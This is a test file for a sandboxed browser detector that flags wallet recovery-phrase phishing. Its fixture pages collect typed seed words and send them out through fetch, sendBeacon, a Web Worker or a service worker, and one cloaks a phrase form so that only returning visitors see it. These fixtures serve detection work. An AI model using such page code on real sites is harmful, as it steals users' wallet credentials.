import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createGuard } from '@redoubt/egress/guard.ts'
import { serveHosts } from '../../sandbox/serveHosts.ts'
import { createBrowserTier } from './createBrowserTier.ts'
import { ACCOUNT, browsePages } from './testing/browsePages.ts'
import { findChromium } from './testing/chromium.ts'

const { skip } = findChromium()
const LIMITS = { useMs: 20_000, wordsMs: 30_000, visitMs: 60_000 }

/** A page with one field that is emptied after each word; `takes` says which, `each` what becomes of one, `end` of twelve. */
const steps = (takes: string, each: string, end: string) =>
  `<!doctype html><title>Steps</title><p id="ask">1</p><input id="w" type="text"><button id="go">Next</button><script>
const words = []; document.getElementById('go').onclick = async () => { const one = document.getElementById('w').value.trim()
if (!(${takes})) return; words.push(one); document.getElementById('w').value = ''; document.getElementById('ask').textContent = words.length + 1; ${each}; if (words.length === 12) { ${end} } }</script>`

const SEND = `fetch('/end', { method: 'POST', body: words.join(' ') })`

describe('words that are typed one by one', { skip, timeout: 300_000 }, () => {
  const typedOn = async (html: string) => {
    const { browsing } = await browsePages({ '/': html }, { limits: LIMITS })
    return browsing.typed.map(({ kind, channel }) => `${kind} ${channel}`)
  }

  it('are a phrase where a page takes no other words', async () => {
    assert.deepEqual(await typedOn(steps('/^[a-z]{3,8}$/.test(one)', '', SEND)), ['phrase fetch'])
  })

  it('are put together where each leaves by itself', async () => {
    const each = `navigator.sendBeacon('/one', one)`
    assert.deepEqual(await typedOn(steps('/^[a-z]{3,8}$/.test(one)', each, '')), ['phrase beacon'])
  })

  it('are no phrase to a game that takes any word', async () => {
    assert.ok((await typedOn(steps('one.length > 1', '', SEND))).includes('sentence fetch'))
  })

  it('are seen where a worker sends them', async () => {
    const { browsing } = await browsePages(
      {
        '/': `<!doctype html><textarea id="t"></textarea><button>Next</button><script>const worker = new Worker('/w.js')
document.querySelector('button').onclick = () => { const line = document.getElementById('t').value; if (!/[a-z]{9}/.test(line)) worker.postMessage(line) }</script>`,
        '/w.js': (_, response) =>
          void response
            .writeHead(200, { 'content-type': 'text/javascript' })
            .end(`onmessage = ({ data }) => fetch('/drop', { method: 'POST', body: data })`),
      },
      { limits: LIMITS },
    )
    assert.deepEqual(browsing.typed, [{ kind: 'phrase', host: 'shop.sandbox.test', channel: 'fetch' }])
  })
})

describe('a site with a service worker', { skip, timeout: 300_000 }, () => {
  const FORM = '<title>Restore</title><h1>Enter your recovery phrase</h1><input name="second">'
  const worker = `self.onmessage = ({ data }) => fetch('/drop', { method: 'POST', body: data })
self.onfetch = (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response(${JSON.stringify(FORM)}, { headers: { 'content-type': 'text/html' } })) }`
  const html = (act: string) =>
    `<!doctype html><title>Notes</title><p>Notes on tides.</p><script>navigator.serviceWorker.register('/sw.js')</script>${act}`
  const SENDING = `<textarea id="t"></textarea><button>Next</button><script>document.querySelector('button').onclick = async () => { const line = document.getElementById('t').value; if (!/[a-z]{9}/.test(line)) (await navigator.serviceWorker.ready).active.postMessage(line) }</script>`

  const browse = async (body: string) => {
    const answer = (path: string) =>
      path === '/sw.js'
        ? { status: 200, headers: { 'content-type': 'text/javascript' }, body: worker }
        : { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body }
    const served = await serveHosts([
      {
        name: 'tides',
        kind: 'trap',
        twinOf: '',
        url: 'https://tides.test/',
        hosts: ['tides.test'],
        sees: '',
        registeredDaysAgo: 90,
        answer: ({ path }) => answer(path),
      },
    ])
    const guard = createGuard({ allow: [], connectTo: served.connectTo, authorities: [served.authority] })
    const tier = createBrowserTier({
      chromiumPath: findChromium().path,
      guard,
      limits: { ...LIMITS, wallMs: 120_000, loadMs: 30_000, settleMs: 2_000 },
      unsandboxedForTests: true,
    })
    try {
      const wallet = { account: ACCOUNT, scan: async () => null } as never
      return await tier.browse({ url: 'https://tides.test/', chain: 'ethereum' }, wallet, new AbortController().signal)
    } finally {
      await tier.close()
      await served.close()
    }
  }

  it('is seen to send what was typed', async () => {
    const { browsing } = await browse(html(SENDING))
    assert.deepEqual(browsing.typed, [{ kind: 'phrase', host: 'tides.test', channel: 'fetch' }])
  })

  it('shows the second visitor what it shows those who come back', async () => {
    const { documents } = await browse(html(''))
    const second = documents.filter(({ visitor }) => visitor === 'second')
    assert.ok(second.some(({ html }) => html.includes('name="second"')))
    assert.ok(documents.every(({ html, visitor }) => visitor === 'second' || !html.includes('name="second"')))
  })
})
